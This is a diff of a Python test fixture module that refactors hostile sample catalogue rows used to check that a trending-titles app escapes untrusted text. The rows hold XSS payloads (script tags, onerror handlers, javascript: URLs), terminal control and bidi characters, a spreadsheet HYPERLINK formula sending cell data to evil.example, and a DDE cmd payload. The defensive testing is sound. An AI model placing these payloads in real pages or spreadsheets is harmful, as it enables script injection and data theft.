@@ -7,7 +7,6 @@ import json
 import shutil
 from dataclasses import replace
 from pathlib import Path
-from typing import Any
 
 import numpy as np
 import pandas as pd
@@ -21,14 +20,20 @@ from trending.releases.manifest import read_manifest
 
 MODEL = "openai/sample-model"
 LAST_DAY = dt.date(2026, 11, 22)
-ATTACK = """<script>window.pwned=1</script><img src=x onerror="window.pwned=2"><a href="javascript:window.pwned=3">x</a>{{value}}${window.pwned=4}</textarea></template>"""
-HOSTILE: tuple[dict[str, Any], ...] = (
-    {"title_id": "bad:markup", "title": ATTACK, "plot": f"A haunted house. {ATTACK}", "url": "javascript:window.pwned=5", "data_licence": ATTACK, "source": "bad"},
-    {"title_id": "bad:control", "title": "\x1b[31mRed\x00 \u202egnihton\u202c\r\n\x07 title", "plot": "Bells\x07 and \u2066whistles\u2069 in a haunted house.\x9b", "source": "bad"},
-    {"title_id": "bad:formula", "title": '=HYPERLINK("http://evil.example/?"&A1,"x")', "plot": "@SUM(1+1)*cmd|' /C calc'!A0 in a haunted house.", "source": "bad"},
-    {"title_id": "bad:huge", "title": "Endless" * 3_000, "plot": "haunted house " + "word" * 250_000, "source": "bad"},
-    {"title_id": "bad:'\"><b>&?#%", "title": "Odd id", "plot": "The id of it has quotes & marks, in a haunted house.", "source": "bad"},
-)  # fmt: skip
+ATTACK = (
+    """<script>window.pwned=1</script><img src=x onerror="window.pwned=2"><a href="javascript:window.pwned=3">x</a>"""
+    """{{value}}${window.pwned=4}</textarea></template>"""
+)
+_RED = "\x1b[31mRed\x00 \u202egnihton\u202c\r\n\x07 title"
+# Title id, title, plot; all of them are found by "haunted".
+_HOSTILE = (
+    ("bad:markup", ATTACK, f"A haunted house. {ATTACK}"),
+    ("bad:control", _RED, "Bells\x07 and \u2066whistles\u2069 in a haunted house.\x9b"),
+    ("bad:formula", '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0 in a haunted house."),
+    ("bad:huge", "Endless" * 3_000, "haunted house " + "word" * 250_000),
+    ("bad:'\"><b>&?#%", "Odd id", "The id of it has quotes & marks, in a haunted house."),
+)
+HOSTILE_IDS = tuple(title_id for title_id, _, _ in _HOSTILE)
 
 
 def publish_plain(home: Path, bundle: Path, titles: pd.DataFrame) -> ReleaseStore:
@@ -60,8 +65,8 @@ def _publish(home: Path, bundle: Path, content: CatalogueContent) -> ReleaseStor
 
 
 def _add_hostile(titles: pd.DataFrame) -> pd.DataFrame:
-    template = titles.iloc[0].to_dict() | {"votes": None, "genres": ["Horror"], "url": None}
-    rows = [template | row | {"source_id": row["title_id"], "group_id": row["title_id"]} for row in HOSTILE]
+    template = titles.iloc[0].to_dict() | {"votes": None, "genres": ["Horror"], "url": "javascript:window.pwned=5", "data_licence": ATTACK, "source": "bad"}
+    rows = [template | {"title_id": one, "source_id": one, "group_id": one, "title": title, "plot": plot} for one, title, plot in _HOSTILE]
     return pd.concat([titles, pd.DataFrame(rows, columns=titles.columns).astype(titles.dtypes)], ignore_index=True)
 
 
@@ -111,10 +116,9 @@ def _make_trends(ids: list[str]) -> pd.DataFrame:
     for week in range(8):
         for place, title_id in enumerate(ranked):
             score = 3.2 - 0.17 * place + 0.22 * np.sin(week * 0.9 + place)
-            parts = [
-                {"name": "attention", "value": 1.4, "sentence": f"Sample figures: watched {90 - 3 * place},000 times last week, {12 + place} % more than the week before."},
-                {"name": "freshness", "value": 0.6, "sentence": f"Sample figures: new for {place + 2} days."},
-            ]  # fmt: skip
+            seen = f"Sample figures: watched {90 - 3 * place},000 times last week, {12 + place} % more than the week before."
+            new = f"Sample figures: new for {place + 2} days."
+            parts = [{"name": "attention", "value": 1.4, "sentence": seen}, {"name": "freshness", "value": 0.6, "sentence": new}]
             rows.append({"as_of": LAST_DAY - dt.timedelta(weeks=7 - week), "title_id": title_id, "score": float(score), "parts": parts if week == 7 else []})
     return pd.DataFrame(rows)
 
@@ -133,5 +137,9 @@ def _make_insights(ids: list[str]) -> pd.DataFrame:
     )
     bad = made.model_copy(update={"summary": ATTACK, "score_reasons": [ATTACK], "tags": [Tag(name="<b>x</b>", controlled=False)]})
     documents = {ids[0]: made, "bad:markup": bad}
-    rows = [{"title_id": one, "score": made.score, "tags": [tag.name for tag in found.tags], "document": json.dumps(found.model_dump(mode="json"))} for one, found in documents.items()]  # fmt: skip
-    return pd.DataFrame(rows)
+    return pd.DataFrame(
+        [
+            {"title_id": one, "score": found.score, "tags": [tag.name for tag in found.tags], "document": json.dumps(found.model_dump(mode="json"))}
+            for one, found in documents.items()
+        ]
+    )
